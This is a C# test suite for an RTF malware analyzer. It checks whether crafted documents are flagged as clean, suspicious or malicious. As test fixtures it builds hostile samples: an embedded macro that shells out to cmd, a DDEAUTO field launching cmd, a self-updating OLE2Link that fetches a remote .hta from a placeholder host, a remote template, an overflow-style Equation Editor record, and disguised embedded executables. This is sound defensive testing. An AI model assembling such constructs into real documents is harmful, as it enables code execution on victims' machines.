using Analyzer.Core;
using Analyzer.Engines.Tests.Making;

namespace Analyzer.Engines.Tests.Kinds;

/// <summary>Rich text: objects in hex, fields, templates.</summary>
public sealed class RtfTests
{
    private static string Object(string name, byte[] data, string words = "") =>
        $"{{\\rtf1 text {{\\object\\objemb{words}{{\\*\\objclass {name}}}"
        + $"{{\\*\\objdata {Convert.ToHexStringLower(Header(name, data))}}}}}}}";

    private static byte[] Header(string name, byte[] data) =>
    [
        1, 5, 0, 0, 2, 0, 0, 0, .. BitConverter.GetBytes(name.Length + 1), .. Samples.Bytes(name), 0, 0, 0, 0, 0, 0, 0, 0, 0,
        .. BitConverter.GetBytes(data.Length), .. data,
    ];

    [Theory]
    [InlineData(@"{\rtf1\ansi Only a text with \b bold\b0  and {\field{\*\fldinst HYPERLINK ""https://a.example/""}{\fldrslt link}}.}")]
    [InlineData(@"{\rtf1{\field{\*\fldinst INCLUDEPICTURE ""https://a.example/logo.png""}}{\field{\*\fldinst INCLUDETEXT part.docx}}}")]
    [InlineData(@"{\rtf1{\field{\*\fldinst INCLUDETEXT part.docx HYPERLINK ""https://a.example/""}}}")]
    [InlineData(@"{\rtf1{\fonttbl{\f0 Arial;}}{\pict\pngblip 89504e470d0a1a0a}}")]
    public void Complete_OrdinaryDocument_IsClean(string rtf)
    {
        var report = Judged.Of(rtf);

        (report.Verdict, report.MediaType).ShouldBe((Verdict.Clean, "application/rtf"), Judged.Text(report));
    }

    [Theory]
    [InlineData(@"LINK Excel.Sheet.12 ""https://a.example/a.xlsx"" ""R1C1"" \a")]
    [InlineData(@"LINK Word.Document.8 ""\\\\192.0.2.1\\s\\a.doc"" """" \a")]
    [InlineData(@"RD ""http://a.example/a.docx""")]
    [InlineData(@"INCLUDETEXT ""file://192.0.2.1/s/a.docx""")]
    public void Complete_FieldThatFetchesADocument_IsSuspicious(string field) =>
        Judged.Of($@"{{\rtf1{{\field{{\*\fldinst {field}}}{{\fldrslt x}}}}}}").Verdict.ShouldBe(Verdict.Suspicious);

    [Fact]
    public void Complete_ObjectsInIt_AreParts()
    {
        var document = new OleMaker().Macros("Macros/", ("A", "Sub AutoOpen()\r\nShell \"cmd\"\r\nEnd Sub")).ToArray();

        Judged.Of(Object("Word.Document.8", document)).Verdict.ShouldBe(Verdict.Malicious);
        Judged.Of(Object("Package", [2, 0, .. "a.exe\0a.exe\0"u8, 0, 0, 3, 0, 0, 0, 0, 0, .. BitConverter.GetBytes(Samples.Program.Length),
            .. Samples.Program]))
            .Part("a.exe").Verdict.ShouldBe(Verdict.Suspicious);
    }

    [Theory]
    [InlineData("Equation.3")]
    [InlineData("eQuatiON.2")]
    public void Complete_Equation_IsSuspicious(string name) => Judged.Of(Object(name, new byte[40])).Rules()
        .ShouldContain("office.equation");

    [Theory]
    [InlineData("Equation.3", 12, Verdict.Clean, "office.formula")]
    [InlineData("Equation.3", 48, Verdict.Suspicious, "office.equation")]
    [InlineData("Word.Document.8", 48, Verdict.Suspicious, "office.equation")]
    public void Complete_EquationWithItsRecords_IsJudgedByThem(string name, int run, Verdict verdict, string rule)
    {
        byte[] records = [3, 1, 1, 3, 0, 10, 1, 2, 0x88, 0x6B, 0, 8, 1, 1, .. Enumerable.Repeat((byte)'A', run), 0, 0, 0];
        byte[] stream = [28, 0, 0, 0, 2, 0, 0, 0, .. BitConverter.GetBytes(records.Length), .. new byte[16], .. records];
        var formula = new OleMaker().Class("0002ce02-0000-0000-c000-000000000046").Add("Equation Native", stream).ToArray();

        var report = Judged.Of(Object(name, formula));

        report.Verdict.ShouldBe(verdict, Judged.Text(report));
        report.Rules().ShouldContain(rule);
        Judged.Of(Object(name, formula).Replace("{\\*\\objdata", "{\\*\\objclass Equation.3}{\\*\\objdata")).Verdict.ShouldBe(verdict);
    }

    [Fact]
    public void Complete_ObjectThatUpdatesItself_CountsMore()
    {
        var once = Judged.Of(Object("OLE2Link", new OleMaker().Add("\u0001Ole", LinkTo("http://a.example/x.hta")).ToArray(),
            @"\objupdate"));

        once.Verdict.ShouldBe(Verdict.Malicious, Judged.Text(once));
        once.Rules().ShouldContain("office.object-updates-itself");
    }

    [Theory]
    [InlineData(@"{\rtf1{\*\template http://a.example/t.dotm}}", "office.remote-template")]
    [InlineData(@"{\rtf1{\field{\*\fldinst DDEAUTO cmd ""/k calc""}}}", "office.dde")]
    [InlineData(@"{\rtf1{\field{\*\fldinst INCLUDETEXT ""https://a.example/t.docx""}}}", "office.remote-object")]
    [InlineData(@"{\rtf1{\field{\*\fldinst INCLUDEPICTURE ""\\\\\\\\a.example\\\\p.png""}}}", "office.file-share")]
    public void Complete_FieldOrTemplateThatActs_IsSuspicious(string rtf, string rule)
    {
        var report = Judged.Of(rtf);

        report.Verdict.ShouldBe(Verdict.Suspicious, Judged.Text(report));
        report.Rules().ShouldContain(rule);
    }

    [Fact]
    public void Complete_DigitsMixedWithWords_AreReadAllTheSame()
    {
        var hex = Convert.ToHexStringLower(Header("Package", [2, 0, .. "a.exe\0a\0"u8, 0, 0, 3, 0, 0, 0, 0, 0,
            .. BitConverter.GetBytes(Samples.Program.Length), .. Samples.Program]));
        var mixed = string.Concat(hex.Chunk(20).Select(digits => $"{new string(digits)}{{\\*\\junk12 }}\r\n"));

        var report = Judged.Of($"{{\\rt{{\\object{{\\*\\objdata {mixed}}}}}}}");

        report.Rules().ShouldContain("rtf.disguised-object");
        report.Part("a.exe").Verdict.ShouldBe(Verdict.Suspicious);
    }

    [Fact]
    public void Complete_SomethingBehindItsEnd_IsAPart()
    {
        Judged.Of([.. @"{\rtf1 a}"u8, .. Samples.Program]).Verdict.ShouldBe(Verdict.Suspicious);
        Judged.Of([.. @"{\rtf1 a}"u8, .. ZipMaker.Pack(("a", Samples.Program))]).Verdict.ShouldBe(Verdict.Suspicious);
        Judged.Of([.. @"{\rtf1 a}"u8, .. new byte[9000], .. @"b{\object{\*\objdata 01050000020000000800000050"u8])
            .Parts!.Select(part => part.Offset).ShouldBeInOrder();
        Judged.Of("{\\rtf1 a}}\r\n \0\0\0").Parts.ShouldBeNull();
    }

    [Fact]
    public void Complete_WithoutEndOrEndlesslyNested_IsToldAndEnds()
    {
        Judged.Of(@"{\rtf1 {\object{\*\objdata 0105000002000000").Rules().ShouldContain("rtf.unclosed");
        Judged.Of(@"{\rtf1 " + new string('{', 100_000)).Rules().ShouldContain("rtf.unclosed");
        Judged.Of(@"{\rtf1 \bin99999999 abc").Verdict.ShouldNotBe(Verdict.Malicious);
    }

    private static byte[] LinkTo(string address) =>
    [
        1, 0, 0, 2, .. new byte[16], 0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11, 0x8C, 0x82, 0x00, 0xAA, 0x00, 0x4B, 0xA9, 0x0B,
        .. BitConverter.GetBytes(address.Length * 2), .. System.Text.Encoding.Unicode.GetBytes(address), 0, 0,
    ];
}
